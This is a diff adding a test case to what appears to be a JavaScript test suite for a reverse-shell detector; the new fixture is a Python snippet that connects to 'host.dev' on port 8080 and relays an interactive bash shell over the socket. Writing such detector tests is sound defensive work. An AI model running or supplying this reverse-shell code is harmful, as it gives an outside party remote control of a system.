@@ -47,6 +47,11 @@ test.each([
     "shell critical",
     "powershell",
   ],
+  [
+    'import socket, subprocess as p\nc = socket.create_connection(("host.dev", 8080))\nsh = p.Popen(["/bin/bash", "-i"], stdin=p.PIPE, stdout=p.PIPE)\nrelay(c.recv, sh.stdin.write)\nrelay(sh.stdout.read, c.sendall)',
+    "shell critical",
+    "python",
+  ],
 ])("%s: %s", (code, expected, language = "sh") => {
   const found = findingsOf("reverse-shell", inBlock(code, language));
   expect(found.map(({ message, level }) => `${message} ${level}`)).toContain(expected);
